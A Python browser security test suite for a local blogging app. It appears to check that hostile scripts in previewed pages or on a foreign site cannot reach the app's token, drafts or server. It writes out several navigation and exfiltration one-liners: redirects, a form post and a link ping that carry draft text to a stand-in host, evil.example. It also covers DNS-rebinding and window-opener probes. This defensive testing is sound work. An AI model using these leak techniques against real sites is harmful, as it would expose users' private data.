"""Hostile scripts in a real browser: in the previewed pages, and on the page of somebody else.

Each tries whatever is known to read, write and publish through the desk, or to get hold of its token. What it
reaches is seen from outside: nothing in the folder changes, the desk goes on, and no way brings it a thing.
"""

from __future__ import annotations

import json
import threading
import time
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Error as BrowserError

from support.browser import SECONDS, driving, open_tab, started
from support.desks import ServedDesk

ATTACKS = (Path(__file__).parent / "attacks.js").read_text(encoding="utf-8")
THEME = """{% extends "base.html" %}
{% block main %}
<h1>{{ post.title }}</h1>{{ content }}<script src="{{ assets["evil.js"] }}" defer></script>
{% endblock %}
"""
PAGE = "<!doctype html><html lang=en><title>Evil</title><body><p>Evil</p><script src=evil.js></script></body></html>"


@pytest.fixture(scope="module")
def browser():
    rules = "--host-resolver-rules=MAP evil.example 127.0.0.1, MAP rebind.example 127.0.0.1"
    with driving() as chromium, started(chromium, rules, "--disable-popup-blocking") as opened:
        yield opened


def attacks_on(desk):
    return f'const DESK = "http://{desk.host}", PREVIEW = "http://{desk.preview_host}";\n{ATTACKS}'


@pytest.fixture
def hostile(practice):
    """A site with a hostile theme and hostile files, open in a desk."""
    desk = ServedDesk(practice.folder)
    attacks = attacks_on(desk)
    with desk.events() as next_event:
        practice.write(
            {
                # A finished page without a policy of ours: nothing but the desk's own rules bounds its scripts.
                "static/evil.html": PAGE,
                "static/evil.js": attacks,
                "static/evil-worker.js": "onfetch = () => {}",
                "theme/static/evil.js": attacks,
                "theme/templates/post.html": THEME,
            }
        )
        next_event("site", lambda event: desk.preview.ask(f"/{desk.desk.workspace.token}/evil.html").status == 200)
    yield desk
    assert desk.call("site.read")["title"] == "Still Water"
    desk.close()


def tree(folder):
    return {
        path: path.read_bytes() for path in folder.rglob("*") if path.is_file() and ".therapyblog" not in path.parts
    }


def framed(tab, desk, path, *, sandbox):
    """Hold a previewed page in a frame of the desk's page; return the frame once its scripts have tried everything."""
    attribute = "frame.sandbox = 'allow-scripts allow-forms';" if sandbox else ""
    address = f"{desk.desk.workspace.address}{path}"
    tab.page.evaluate(
        f"""() => {{
            window.heard = [];
            addEventListener("message", (event) => window.heard.push([event.origin, event.data]));
            const frame = document.createElement("iframe");
            {attribute}
            frame.name = "page";
            frame.src = "{address}";
            document.body.append(frame);
        }}"""
    )
    until = time.monotonic() + SECONDS
    while True:
        # A frame that is being loaded has another name, or none of our words.
        with suppress(BrowserError):
            frame = tab.page.frame(url=address)
            if frame is not None and frame.evaluate("window.tried !== undefined"):
                return frame
        assert time.monotonic() < until, [frame.url for frame in tab.page.frames]
        tab.page.wait_for_timeout(50)


@pytest.mark.parametrize("sandbox", [True, False], ids=["with the frame's sandbox", "with the answer's alone"])
@pytest.mark.parametrize("path", ["evil.html", "one/"], ids=["of static", "of a theme"])
def test_no_script_of_a_previewed_page_reaches_the_desk(browser, hostile, practice, path, sandbox):
    before, sites = tree(practice.folder), hostile.call("sites.list")
    with open_tab(browser) as tab:
        tab.go(hostile.desk.address)
        tab.wait_for("sessionStorage.getItem('therapyblog-token')")
        tab.page.evaluate("window.name = 'desk'; window.kept = true")
        frame = framed(tab, hostile, path, sandbox=sandbox)
        assert frame.evaluate("origin") == "null"
        assert frame.evaluate("window.tried") == {}
        assert tab.ask("window.kept") is True, "the desk was led away"
        assert len(tab.page.context.pages) == 1, "a window was opened"
        assert {origin for origin, _ in tab.ask("window.heard")} <= {"null"}
    assert tree(practice.folder) == before
    assert hostile.call("sites.list") == sites


class Elsewhere:
    """Somebody else's server; `asked` is what browsers wanted of it."""

    def __init__(self, page: str = "") -> None:
        asked: list[str] = []
        self.asked = asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()
                self.wfile.write(page.encode())

            def log_message(self, *_):
                """Say nothing."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.address = f"http://evil.example:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def elsewhere():
    found = Elsewhere()
    yield found
    found.close()


LEAVE = (
    "location.href = {address}",
    "location.replace({address})",
    "open({address}, '_self')",
    "const meta = make('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + {address}; head.append(meta)",
    "const form = make('form'); form.action = {address}; form.method = 'post'; body.append(form); form.submit()",
    "const link = make('a'); link.href = {address}; link.ping = {address}; body.append(link); link.click()",
)


@pytest.mark.parametrize("leave", LEAVE)
def test_no_page_leads_its_frame_elsewhere(browser, hostile, elsewhere, leave):
    """So what a script has read of the drafts it cannot carry away in an address."""
    with open_tab(browser) as tab:
        tab.go(hostile.desk.address)
        tab.wait_for("sessionStorage.getItem('therapyblog-token')")
        tab.page.evaluate("window.kept = true")
        for target in (
            f"{elsewhere.address}/?draft=words",
            f"http://{hostile.host}/",
            f"http://{hostile.host}/enter#x",
        ):
            frame = framed(tab, hostile, "evil.html", sandbox=True)
            names = "const { head, body } = document, make = (name) => document.createElement(name);"
            frame.evaluate(f"() => void setTimeout(() => {{ {names} {leave.format(address=json.dumps(target))} }}, 0)")
            tab.page.wait_for_timeout(700)
            assert tab.ask("window.kept") is True
            url = tab.page.frames[-1].url
            assert url.startswith(("chrome-error:", hostile.desk.workspace.address)), url
            tab.page.evaluate("document.querySelector('iframe[name=page]').remove()")
        assert elsewhere.asked == []


def test_the_page_of_somebody_else_reaches_neither_server(browser, hostile, practice):
    """Also where it knows the previewed pages' address: they stand in no frame of its own, and it cannot read them."""
    attacks = attacks_on(hostile)
    # What its own origin has is no secret of ours.
    own = "; for (const way of OWN) delete WAYS[way]"
    names = [
        "the store of this tab",
        "the store of this computer",
        "a cookie",
        "a database",
        "a draft",
        "caches",
        "the window above",
        "its address",
        "its fragment",
        "its names",
        "its storage",
        "the window at the top",
        "a question",
        "the settings of the site",
        "other windows of its name",
        "leading the top away",
        "leading the desk away",
        "a link to the top",
        "a link to a window",
        "a window",
        "a worker",
    ]
    attacks = attacks.replace("// What has no answer", f"const OWN = {json.dumps(names)}{own};\n// What has no answer")
    attacks = attacks.replace('"a form to the top"', '"a form aside"').replace('"_top"', '"aside"')
    server = Elsewhere(f"<!doctype html><title>Evil</title><body><script>{attacks}</script></body>")
    before = tree(practice.folder)
    try:
        with open_tab(browser) as tab:
            tab.go(server.address)
            tab.page.wait_for_function("() => window.tried !== undefined")
            assert tab.page.evaluate("window.tried") == {}
            page = f"{hostile.desk.workspace.address}one/"
            asked = f"fetch({json.dumps(page)}).then((answer) => answer.text()).catch(() => 'refused')"
            assert tab.page.evaluate(asked) == "refused"
            frame = "Object.assign(document.createElement('iframe'), {{ name: 'stolen', src: {} }})"
            for target in (page, f"http://{hostile.host}/"):
                tab.page.evaluate(f"void document.body.append({frame.format(json.dumps(target))})")
                tab.page.wait_for_timeout(500)
                assert tab.page.frames[-1].url.startswith("chrome-error:"), target
                tab.page.evaluate("document.querySelector('[name=stolen]').remove()")
            # A window of the desk that it opens itself has no token, and it keeps no hand on it.
            with tab.page.context.expect_page() as opening:
                tab.page.evaluate(f"void (window.opened = open('http://{hostile.host}/#token=guess'))")
            opened = opening.value
            opened.wait_for_load_state()
            assert opened.evaluate("window.opener") is None
            assert tab.page.evaluate("window.opened.closed") is True
            assert "Still Water" not in opened.inner_text("body")
    finally:
        server.close()
    assert tree(practice.folder) == before


def test_a_name_that_leads_to_this_computer_is_not_answered(browser, hostile):
    """DNS rebinding: the page of a name comes from elsewhere first, and then the name leads to the desk's port."""
    with open_tab(browser) as tab:
        for port, path in ((hostile.port, "/"), (hostile.preview.port, f"/{hostile.desk.workspace.token}/one/")):
            answer = tab.page.goto(f"http://rebind.example:{port}{path}")
            assert answer.status == 403
            assert "The first words." not in tab.page.inner_text("body")
            call = (
                "fetch('/api/site.read', {method: 'POST', body: '{}', headers: {'Content-Type': 'application/json'}})"
            )
            assert tab.page.evaluate(f"{call}.then((answer) => answer.status, () => 0)") in (0, 403, 405)


def test_a_stolen_address_without_the_token_shows_nothing(browser, hostile):
    with open_tab(browser) as tab:
        tab.go(hostile.desk.address)
        tab.wait_for("document.body.innerText.includes('Still Water')")
        address = tab.ask("location.href")
        assert hostile.desk.token not in address
        assert hostile.desk.token not in tab.ask("document.documentElement.outerHTML")
    with open_tab(browser) as tab:
        tab.go(address)
        tab.wait_for("document.querySelector('main h1') !== null")
        assert "Still Water" not in tab.ask("document.body.innerText")


def test_a_window_opens_once_by_its_code(browser, hostile):
    """Later it opens nothing, but in the tab that it opened."""
    entrance = hostile.desk.entrance()
    with open_tab(browser) as first, open_tab(browser) as other:
        for tab, words in ((first, "Still Water"), (other, "only half of it"), (first, "Still Water")):
            tab.go(entrance)
            shown = tab.wait_for("document.body.innerText", lambda text, words=words: text and words in text)
            assert (tab is first) is ("Still Water" in shown)
            assert entrance.partition("#")[2] not in tab.ask("location.href")
